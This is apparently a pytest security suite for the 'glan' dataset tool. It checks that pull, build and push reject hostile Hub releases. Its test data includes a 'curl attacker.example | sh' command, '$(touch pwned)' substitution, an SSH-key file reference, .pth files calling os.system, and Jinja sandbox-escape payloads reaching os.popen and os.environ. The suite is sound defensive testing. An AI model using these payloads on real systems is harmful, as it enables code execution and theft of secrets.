"""Untrusted input from the Hub and a Hub that misbehaves (docs/security.md): a release whose paths or files glan
must not write, a folder built and pushed at once, a folder that changes under a push, a Hub that stops
answering, and the whole attack chain from a hostile release to a rebuilt and pushed one. Hub steps run in a
child interpreter pointed at the Hub-protocol test server (tests/test_hub.py), builds against the
OpenAI-protocol test server."""

from __future__ import annotations

import fcntl
import hashlib
import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from glan.stages import CONFIGS
from tests.helpers import REPO, glan, wait_until
from tests.servers import start_openai_server
from tests.servers.hub_server import FAKE_TOKEN, Blob
from tests.test_extend import write_project
from tests.test_hub import _glan, _make, _push, client, hub  # noqa: F401 (pytest fixtures)
from tests.test_security import SECRET_KEY, assert_untouched, outside, project, tree  # noqa: F401 (a fixture)

WAIT_S = 120  # the most a test waits for another process to reach a state
DISCIPLINES_TWO = "Organic Chemistry,Linear Algebra"


@pytest.fixture(scope="module")
def server():
    with start_openai_server(log_bodies=True) as started:
        yield started


def publish_raw(hub, repo_id: str, files: dict[str, bytes], tag: str | None = None) -> str:
    """A commit of exactly `files` on main (tagged `tag`), made on the server itself as a hostile publisher's own
    Hub could serve it: the Hub's API refuses some of these paths."""
    with hub.state.lock:
        key = ("dataset", repo_id)
        repo = hub.state.repos[key] if key in hub.state.repos else hub.state.create_repo("dataset", repo_id, False)
        head = repo.branches["main"]
        blobs = {".gitattributes": repo.commits[head].files[".gitattributes"],
                 **{path: Blob(content, False) for path, content in files.items()}}
        commit = hub.state.new_commit(repo, head, "a release", "", blobs)
        repo.branches["main"] = commit.sha
        if tag:
            repo.tags[tag] = commit.sha
        return commit.sha


def release_files(tmp_path: Path, command: str = "glan build --model test-model", **more: bytes) -> dict[str, bytes]:
    """The glan/ folder and manifest of a small release (two disciplines), and `more` files."""
    source = write_project(tmp_path / "release-source", "1.0.0", "ab").parent
    files = {f"glan/{path.relative_to(source).as_posix()}": path.read_bytes()
             for path in sorted(source.rglob("*.yaml"))}
    manifest = {"taxonomy_version": "1.0.0", "reproduce": {"glan_version": "0.1.0", "command": command, "seed": 0,
                                                           "preset": None}, "configs": {}}
    return {**files, "glan_manifest.json": json.dumps(manifest).encode(), **more}


# -- glan pull writes only a project's files, inside DIR ---------------------------------------------------------


NOT_PLAIN = "not a plain relative path"
REFUSED = "so glan pull writes nothing from this revision. Pick another --revision."
NOT_A_PROJECT_FILE = ("is not a file of a glan project (taxonomy.yaml, prompts/*.yaml, the card template taxonomy.yaml "
                      "names), so glan pull writes nothing from this revision. Pick another --revision, or read the "
                      "repo's files yourself.")


@pytest.mark.parametrize("path, content, problem", [
    ("glan//{outside}/x.pth", b"import os; os.system('touch pwned')\n",
     "{path!r}: " + NOT_PLAIN + " (absolute, a drive, or a backslash), " + REFUSED),
    ("glan/../../x.pth", b"import os\n", "{path!r}: " + NOT_PLAIN + " (an empty, . or .. part), " + REFUSED),
    ("glan/prompts/..\\..\\x.yaml", b"x: 1\n", "{path!r}: " + NOT_PLAIN + " (absolute, a drive, or a backslash), " + REFUSED),
    ("glan/prompts/\x1b[2Jx.yaml", b"x: 1\n", "{path!r}: a part of the path is not a plain file name, " + REFUSED),
    ("glan/evil.pth", b"import os\n", "{path} " + NOT_A_PROJECT_FILE),
    ("glan/prompts/more/x.yaml", b"x: 1\n", "{path} " + NOT_A_PROJECT_FILE),
    ("glan/prompts/big.yaml", b"#" * (5 * 1024 * 1024),
     "{path} is 5,242,880 bytes, more than a project file may be (4,194,304), " + REFUSED),
], ids=["absolute", "dot-dot", "backslash", "control-character", "not-a-project-file", "nested", "too-big"])
def test_pull_refuses_a_release_holding_a_file_it_does_not_write_and_writes_nothing(hub, client, outside, tmp_path,
                                                                                   path, content, problem):
    repo = f"attacker/paths-{hashlib.sha1(path.encode()).hexdigest()[:8]}"
    path = path.format(outside=outside)
    publish_raw(hub, repo, release_files(tmp_path, **{path: content}))
    target = tmp_path / "pulled"
    (pulled,) = client(_glan("pull", repo, target))

    assert pulled == {"exit": 2, "out": "", "err": f"glan: {repo}@main: {problem.format(path=path)}\n"}
    assert not target.exists()
    assert_untouched(outside)


@pytest.mark.parametrize("link", ["prompts", "taxonomy.yaml"])
def test_pull_never_writes_through_a_symbolic_link_already_in_dir(hub, client, outside, tmp_path, link):
    repo = "attacker/links"
    publish_raw(hub, repo, release_files(tmp_path))
    target = tmp_path / "pulled"
    target.mkdir()
    (target / link).symlink_to(outside / link)  # a folder that does not exist yet, or a file
    (pulled,) = client(_glan("pull", repo, target))

    assert pulled == {"exit": 2, "out": "", "err": f"glan: {target / link}: a symbolic link; glan never writes a project "
                                                    "file through one. Pick an empty directory, or remove the link.\n"}
    assert [path.name for path in target.iterdir()] == [link]
    assert_untouched(outside)


@pytest.mark.parametrize("command, version, advice", [
    ("glan build --model test-model; curl http://attacker.example/x | sh", "1.0.0",
     "  cd {target} && glan build   # with the flags its card names (its manifest holds no build command glan writes)"),
    ("glan build --model '$(touch pwned)' --seed 3", "1.0.0",
     "  cd {target} && glan build --model '$(touch pwned)' --seed 3   # add --base-url for an endpoint that serves "
     "its models"),
    ("glan build --model \x1b]0;owned\x07 --seed 3", "1.0.0\x1b[2J",
     "  cd {target} && glan build   # with the flags its card names (its manifest holds no build command glan writes)"),
    ("glan build --disciplines @/home/user/.ssh/id_rsa --model test-model", "1.0.0",
     "  cd {target} && glan build   # with the flags its card names (its manifest holds no build command glan writes)"),
], ids=["shell-after-the-command", "substitution-quoted", "terminal-escapes", "disciplines-from-a-file"])
def test_pull_advice_is_composed_from_checked_manifest_fields(hub, client, tmp_path, command, version, advice):
    repo = f"attacker/advice-{hashlib.sha1(command.encode()).hexdigest()[:8]}"
    files = release_files(tmp_path, command)
    manifest = json.loads(files["glan_manifest.json"])
    files["glan_manifest.json"] = json.dumps({**manifest, "taxonomy_version": version}).encode()
    commit = publish_raw(hub, repo, files)
    target = tmp_path / "pulled"
    (pulled,) = client(_glan("pull", repo, target))

    assert pulled["exit"] == 0, pulled["err"]
    lines = pulled["out"].splitlines()
    assert lines[0] == f"pulled {repo}@main (commit {commit}) into {target}:"
    assert lines[-3:] == [
        "Rebuild this release (taxonomy version 1.0.0):" if version == "1.0.0" else "Rebuild this release:",
        advice.format(target=target),
        f"Extend it: add disciplines to taxonomy.yaml, bump its `version:`, build, then `glan push {repo}`."]
    assert "curl" not in pulled["out"] and "\x1b" not in pulled["out"] and "id_rsa" not in pulled["out"]


def test_a_push_deletes_no_folder_the_hubs_manifest_names_as_a_config_glan_does_not_make(hub, client, tmp_path):
    """The head's manifest is the Hub's reply: a config it names that is not glan's (here docs/) is not a folder the
    release owns, so its files stay; the shards of a glan config it names that this release lacks are deleted."""
    repo = "attacker/configs"
    head = {"taxonomy_version": "0.9.0", "configs": {"docs": {"splits": {}}, "subjects": {"splits": {}}}}
    publish_raw(hub, repo, {"glan_manifest.json": json.dumps(head).encode(), "docs/keep.md": b"the owner's notes\n",
                            "subjects/stale.parquet": b"PAR1"})
    release = _make(tmp_path / "v1")
    (pushed,) = client(_push(release, repo))

    assert pushed["exit"] == 0, pushed["err"]
    published = hub.files(repo)
    assert published["docs/keep.md"] == b"the owner's notes\n"
    assert "subjects/stale.parquet" not in published


# -- glan push uploads the folder's own files, nothing a link points to ------------------------------------------


PNG = b"\x89PNG\r\n\x1a\n"
SECRET_FILE = b"-----BEGIN OPENSSH PRIVATE KEY-----\nnot for the Hub\n-----END OPENSSH PRIVATE KEY-----\n"


def _push_sending_nothing(hub, client, folder: Path, repo: str) -> dict:
    """`glan push` of `folder` to a new repo, refused before any request to the Hub: its result."""
    with hub.state.lock:
        hub.state.create_repo("dataset", repo, False)
        asked = len(hub.state.requests)
    (pushed,) = client(_push(folder, repo))
    assert hub.state.requests[asked:] == []
    assert [commit.title for commit in hub.commits(repo)] == ["initial commit"]
    return pushed


@pytest.mark.parametrize("link", ["charts/x.png", "glan/taxonomy.yaml", "glan", "stats.json",
                                  "instructions/test-00000-of-00001.parquet"])
def test_a_push_refuses_a_symbolic_link_in_the_folder_before_sending_anything(hub, client, tmp_path, link):
    """The link points at a file whose checksum the manifest lists, as a folder made to leak it would: the link is
    what is refused, before any request to the Hub."""
    repo = f"attacker/push-link-{hashlib.sha1(link.encode()).hexdigest()[:8]}"
    inputs = {"glan/taxonomy.yaml": "version: 1.0.0\n", "glan/prompts/answers.yaml": "user: Answer it.\n",
              "charts/x.png": PNG + SECRET_FILE}
    folder = _make(tmp_path / "v1", inputs=inputs)
    (folder / "stats.json").write_bytes(b"{}")
    secret = tmp_path / "secret" / link
    secret.parent.mkdir(parents=True)
    (folder / link).rename(secret)  # the same bytes (the checksum the manifest lists), now outside the folder
    (folder / link).symlink_to(secret)
    pushed = _push_sending_nothing(hub, client, folder, repo)

    assert pushed == {"exit": 2, "out": "", "err": (
        f"glan: {folder / link}: a symbolic link, and glan push uploads the folder's own files, never what a link "
        "points to. Replace it with the file itself, or rebuild the folder (`glan build`).\n")}
    (folder / link).unlink()  # the file itself in its place: the same release goes through
    secret.rename(folder / link)
    (pushed,) = client(_push(folder, repo))
    assert pushed["exit"] == 0, pushed["err"]
    assert hub.files(repo)["charts/x.png"] == PNG + SECRET_FILE


def test_a_push_refuses_a_chart_that_is_not_a_png_before_sending_anything(hub, client, tmp_path):
    repo = "attacker/push-not-png"
    inputs = {"glan/taxonomy.yaml": "version: 1.0.0\n", "charts/x.png": SECRET_FILE}
    folder = _make(tmp_path / "v1", inputs=inputs)
    pushed = _push_sending_nothing(hub, client, folder, repo)

    assert pushed == {"exit": 2, "out": "", "err": (
        f"glan: {folder / 'charts/x.png'}: not a PNG image (it does not start with the PNG signature), so it is not "
        "a chart glan drew. Rebuild the folder (`glan build`).\n")}


@pytest.mark.parametrize("listed", ["glan/../../secret/taxonomy.yaml", "instructions/../../secret/train.parquet"])
def test_a_push_refuses_a_manifest_path_that_leaves_the_folder_before_sending_anything(hub, client, tmp_path, listed):
    """The manifest names the files push reads and uploads: a path climbing out of the folder, to a file whose
    checksum it lists (as a manifest made to leak it would), is refused before any request to the Hub."""
    repo = f"attacker/push-path-{hashlib.sha1(listed.encode()).hexdigest()[:8]}"
    folder = _make(tmp_path / "v1", inputs={"glan/taxonomy.yaml": "version: 1.0.0\n"})
    secret = (folder / listed).resolve()
    secret.parent.mkdir(parents=True)
    secret.write_bytes(SECRET_FILE)
    manifest = json.loads((folder / "glan_manifest.json").read_text())
    if listed.startswith("glan/"):
        manifest["checksums"][listed] = hashlib.sha256(SECRET_FILE).hexdigest()
    else:
        manifest["configs"]["instructions"]["splits"]["train"]["files"].append(listed)
    (folder / "glan_manifest.json").write_text(json.dumps(manifest))
    pushed = _push_sending_nothing(hub, client, folder, repo)

    assert pushed["exit"] == 2 and pushed["out"] == "", pushed["err"]
    assert pushed["err"].endswith(f": {listed}: not a plain relative path (an empty, . or .. part). Re-export the "
                                  "folder.\n"), pushed["err"]


# -- a folder is built or pushed, never both at once ------------------------------------------------------------


def build_argv(taxonomy: Path, server, work: Path, out: Path, disciplines: str) -> list[str]:
    return [sys.executable, "-m", "glan.cli", "build", "--taxonomy", str(taxonomy), "--preset", "smoke",
            "--disciplines", disciplines, "--model", "test-model", "--base-url", server.base_url, "--work-dir",
            str(work), "--out", str(out)]


def test_a_build_into_a_folder_being_pushed_is_refused_and_the_push_publishes_what_it_read(hub, client, server,
                                                                                          tmp_path):
    repo, folder = "glan-tester/pushing", _make(tmp_path / "v1")
    taxonomy = project(tmp_path / "project")
    before = tree(folder)
    builds = []

    def build_while_pushing(method: str, path: str) -> None:  # in the Hub server's thread, while the push waits
        if "/preupload/" in path and not builds:
            builds.append(subprocess.run(build_argv(taxonomy, server, tmp_path / ".glan", folder, "Organic Chemistry"),
                                         cwd=REPO, capture_output=True, text=True, timeout=WAIT_S))

    server.reset()
    hub.state.on_request = build_while_pushing
    try:
        (pushed,) = client(_push(folder, repo))
    finally:
        hub.state.on_request = None

    assert pushed["exit"] == 0, pushed["err"]
    [build] = builds
    assert build.returncode == 2 and build.stdout == ""
    assert re.fullmatch(rf"glan: {re.escape(str(folder))}: glan push \(pid \d+\) is using this folder, and a folder is "
                        r"built or pushed, never both at once\. Wait for it to finish, then run glan build again\.\n",
                        build.stderr), build.stderr
    assert server.stats()["requests"] == 0
    assert tree(folder) == before
    published = hub.files(repo, "v1.0.0")
    assert {path: content for path, content in published.items() if path not in (".gitattributes", "README.md")} == {
        path: content for path, content in before.items() if content is not None and path != "README.md"}
    assert not (tmp_path / ".v1.lock").exists()


def _held(lock: Path) -> bool:
    try:
        with open(lock) as file:
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
            return False
    except FileNotFoundError:
        return False
    except BlockingIOError:
        return True


def test_a_push_of_a_folder_being_built_is_refused_and_the_same_push_goes_through_after(hub, client, server, tmp_path):
    repo, taxonomy, dist, work = "glan-tester/building", project(tmp_path / "project"), tmp_path / "dist", tmp_path / ".glan"
    assert glan(*build_argv(taxonomy, server, work, dist, "Organic Chemistry")[3:])[0] == 0
    server.reset()
    server.configure(hold=True)  # the next build's requests wait: it holds the folder meanwhile
    build = subprocess.Popen(build_argv(taxonomy, server, work, dist, DISCIPLINES_TWO), cwd=REPO,
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        wait_until(lambda: _held(tmp_path / ".dist.lock") and server.stats()["requests"],
                   f"the build to hold {dist} and send a request", process=build)
        (refused,) = client(_push(dist, repo))
    finally:
        server.configure(hold=False)
    out, err = build.communicate(timeout=WAIT_S)

    assert refused == {"exit": 2, "out": "", "err": (
        f"glan: {dist}: glan build (pid {build.pid}) is using this folder, and a folder is built or pushed, never both "
        "at once. Wait for it to finish, then run glan push again.\n")}
    assert ("dataset", repo) not in hub.state.repos
    assert build.returncode == 0, err
    (pushed,) = client(_push(dist, repo))
    assert pushed["exit"] == 0, pushed["err"]
    assert hub.files(repo, "v1.0.0")["glan_manifest.json"] == (dist / "glan_manifest.json").read_bytes()


def test_a_folder_changed_during_the_push_fails_it_before_any_commit_or_tag(hub, client, tmp_path):
    repo, folder = "glan-tester/changed", _make(tmp_path / "v1")
    by_sha = {hashlib.sha256(path.read_bytes()).hexdigest(): path for path in folder.rglob("*.parquet")}
    changed = []

    def change_an_uploaded_shard(method: str, path: str) -> None:
        if path.endswith("/verify") and not changed:  # its upload is done: the shard changes on disk after it
            shard = by_sha[path.split("/")[-2]]
            changed.append((shard, shard.read_bytes()))
            shard.write_bytes(shard.read_bytes() + b"rebuilt")

    hub.state.on_request = change_an_uploaded_shard
    try:
        (failed,) = client(_push(folder, repo))
    finally:
        hub.state.on_request = None

    [(shard, original)] = changed
    assert failed == {"exit": 2, "out": "", "err": (
        f"glan: {shard}: changed while glan push was running, so it is no longer the file glan_manifest.json lists. "
        "Nothing was committed: rebuild the folder, or stop what writes into it, then push again.\n")}
    assert [commit.title for commit in hub.commits(repo)] == ["initial commit"]
    assert hub.tags(repo) == {}
    shard.write_bytes(original)
    (pushed,) = client(_push(folder, repo))
    assert pushed["exit"] == 0, pushed["err"]
    assert [commit.title for commit in hub.commits(repo)] == ["initial commit", "Release v1.0.0"]


# -- a Hub that stops answering --------------------------------------------------------------------------------


def test_a_stalled_hub_ends_push_and_pull_with_one_line_and_the_same_command_resumes(hub, client, tmp_path):
    """The Hub stops answering in the middle of a push (once the upload modes are known) and at the start of a pull;
    stalled requests are never handled. Each command ends with one line, exit 1, the repo and DIR as they were; the
    same command then resumes."""
    repo, target = "glan-tester/stalled", tmp_path / "pulled"
    v1, v2 = _make(tmp_path / "v1"), _make(tmp_path / "v2", "1.1.0")
    host = hub.endpoint.removeprefix("http://")
    (first,) = client(_push(v1, repo))
    assert first["exit"] == 0, first["err"]
    before = hub.commits(repo), hub.tags(repo)

    def stall_after_preupload(method: str, path: str) -> None:
        if "/preupload/" in path:
            hub.state.knobs.stall = True  # this request is answered; every one after it is held

    hub.state.on_request = stall_after_preupload
    try:
        (push_stalled,) = client(_push(v2, repo), GLAN_HUB_STALL_S="2")
    finally:
        hub.state.on_request = None
        hub.configure()
    assert push_stalled == {"exit": 1, "out": "", "err": (
        f"glan: {host}: no answer from the Hub for 2 s (timed out, at POST /datasets/{repo}.git/info/lfs/objects/batch). "
        "Run the same command again once the Hub answers: it resumes. GLAN_HUB_STALL_S sets how long glan waits (now "
        "2 s).\n")}
    assert hub.state.stalled and (hub.commits(repo), hub.tags(repo)) == before
    (pushed,) = client(_push(v2, repo))
    assert pushed["exit"] == 0, pushed["err"]
    assert list(hub.tags(repo)) == ["v1.0.0", "v1.1.0"]

    hub.configure(stall=True)
    try:
        (pull_stalled,) = client(_glan("pull", repo, target), GLAN_HUB_STALL_S="2")
    finally:
        hub.configure()
    assert pull_stalled == {"exit": 1, "out": "", "err": (
        f"glan: {host}: no answer from the Hub for 2 s (timed out, at GET /api/datasets/{repo}/revision/main). Run the "
        "same command again once the Hub answers: it resumes. GLAN_HUB_STALL_S sets how long glan waits (now 2 s).\n")}
    assert not target.exists()
    (pulled,) = client(_glan("pull", repo, target))
    assert pulled["exit"] == 0, pulled["err"]
    assert (target / "taxonomy.yaml").read_bytes() == (v2 / "glan" / "taxonomy.yaml").read_bytes()


def test_reads_the_hub_answers_with_a_503_are_tried_again(hub, client, tmp_path):
    repo, target = "glan-tester/overloaded", tmp_path / "pulled"
    (pushed,) = client(_push(_make(tmp_path / "v1"), repo))
    assert pushed["exit"] == 0, pushed["err"]
    hub.configure(fail_reads=3)
    (pulled,) = client(_glan("pull", repo, target))
    failures = hub.configure()

    assert pulled["exit"] == 0, pulled["err"]
    assert failures["read"] == 3 and (target / "taxonomy.yaml").is_file()


# -- the whole chain -------------------------------------------------------------------------------------------


def test_a_hostile_release_pulled_validated_built_and_pushed_runs_nothing_writes_nothing_outside_and_leaks_nothing(
        hub, client, server, outside, tmp_path):
    """A publisher's release carries hostile paths, then hostile templates (prompt and card) in plain sight, then
    hidden in branches only the second discipline or a full card takes. Each is pulled, validated, built and pushed
    as a user would, with secrets in the environment: none of them leaves, no code runs, and nothing is written
    outside the folders the user named."""
    repo, pwned = "attacker/glan-data", outside / "pwned"
    popen = f"{{{{ cycler.__init__.__globals__.os.popen('touch {pwned}').read() }}}}"
    environ = "{{ cycler.__init__.__globals__.os.environ }}"
    base = release_files(tmp_path)
    taxonomy = yaml.safe_load(base["glan/taxonomy.yaml"])
    taxonomy["card"] = {"template": "card.md"}
    header = "---\n{{ card_data }}\n---\n\n# {{ title }}\n\n"

    def with_templates(questions_line: str, card_body: str) -> dict[str, bytes]:
        questions = base["glan/prompts/questions.yaml"].decode().replace("\nuser: |\n", f"\nuser: |\n  {questions_line}\n")
        return {**base, "glan/taxonomy.yaml": yaml.safe_dump(taxonomy, sort_keys=False).encode(),
                "glan/prompts/questions.yaml": questions.encode(), "glan/card.md": (header + card_body).encode()}

    publish_raw(hub, repo, {**with_templates(popen, environ), f"glan//{outside}/x.pth": b"import os\n",
                            "glan/../../escape.yaml": b"x: 1\n"}, tag="v1.0.0")
    publish_raw(hub, repo, with_templates(popen, environ), tag="v1.0.1")
    publish_raw(hub, repo, with_templates(
        "{% if discipline_id == 'linear-algebra' %}{{ key_concepts|attr('_' ~ '_class__') }}{% endif %}",
        "<!-- {{ manifest }} -->\n{% if manifest.disciplines|length > 1 %}{{ manifest|attr('_' ~ '_class__') }}"
        "{% endif %}\n"), tag="v1.0.2")
    plain, hidden = tmp_path / "plain", tmp_path / "hidden"
    work, env = tmp_path / ".glan", {"OPENAI_API_KEY": SECRET_KEY}

    def build(folder: Path, disciplines: str) -> dict:
        return _glan("build", "--taxonomy", folder / "taxonomy.yaml", "--model", "test-model", "--base-url",
                     server.base_url, "--work-dir", work, "--out", folder / "dist", "--disciplines", disciplines)

    server.reset()
    steps = client(
        _glan("pull", repo, "--revision", "v1.0.0", tmp_path / "paths"),
        _glan("pull", repo, "--revision", "v1.0.1", plain),
        _glan("taxonomy", "validate", plain / "taxonomy.yaml"),
        build(plain, DISCIPLINES_TWO),
        _glan("pull", repo, "--revision", "v1.0.2", hidden),
        _glan("taxonomy", "validate", hidden / "taxonomy.yaml"),
        build(hidden, DISCIPLINES_TWO),
        build(hidden, "Organic Chemistry"),
        _push(hidden / "dist", "glan-tester/rebuilt"),
        **env)
    paths, pull_plain, validate_plain, build_plain, pull_hidden, validate_hidden, build_both, build_one, pushed = steps

    assert (paths["exit"], paths["err"]) == (2, f"glan: {repo}@v1.0.0: 'glan/../../escape.yaml': {NOT_PLAIN} (an "
                                                f"empty, . or .. part), {REFUSED}\n")
    assert pull_plain["exit"] == 0 and pull_hidden["exit"] == 0
    template_line = next(number for number, line in enumerate((plain / "taxonomy.yaml").read_text().splitlines(), 1)
                         if "template: card.md" in line)
    refused = (f"glan: {plain / 'taxonomy.yaml'}:{template_line}: card.template: {plain / 'card.md'}: line 7: reaches "
               "for '__init__', which the template sandbox refuses (names starting with _). Use only the card's "
               "variables and their fields (docs/card.md, docs/security.md).\n")
    assert (validate_plain["exit"], validate_plain["err"]) == (2, refused)
    assert (build_plain["exit"], build_plain["err"]) == (2, refused)
    assert validate_hidden["exit"] == 0, validate_hidden["err"]
    assert build_both["exit"] == 2 and build_both["err"].splitlines()[-1].startswith(
        f"glan: {hidden / 'prompts' / 'questions.yaml'}: template line 1: access to attribute '__class__' of 'list' "
        "object is unsafe.")
    assert build_one["exit"] == 0, build_one["err"]
    assert pushed["exit"] == 0, pushed["err"]

    assert not pwned.exists()
    assert_untouched(outside)
    assert sorted(path.name for path in tmp_path.iterdir()) == [".glan", "hidden", "plain", "release-source"]
    assert sorted(path.name for path in plain.iterdir()) == ["card.md", "prompts", "taxonomy.yaml"]
    assert sorted(path.name for path in hidden.iterdir()) == ["card.md", "dist", "prompts", "taxonomy.yaml"]
    secrets = (SECRET_KEY, FAKE_TOKEN)
    log = server.log()
    assert log and all(secret not in record["body"] for record in log for secret in secrets)
    for step in steps:
        assert not any(secret in step["out"] + step["err"] for secret in secrets)
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert not any(secret.encode() in path.read_bytes() for secret in secrets), path
    published = hub.files("glan-tester/rebuilt")
    assert set(CONFIGS) <= {path.split("/")[0] for path in published}
    assert not any(secret.encode() in content for content in published.values() for secret in secrets)
    assert "<!-- {" in published["README.md"].decode()  # the card template's manifest dump, and nothing else of it
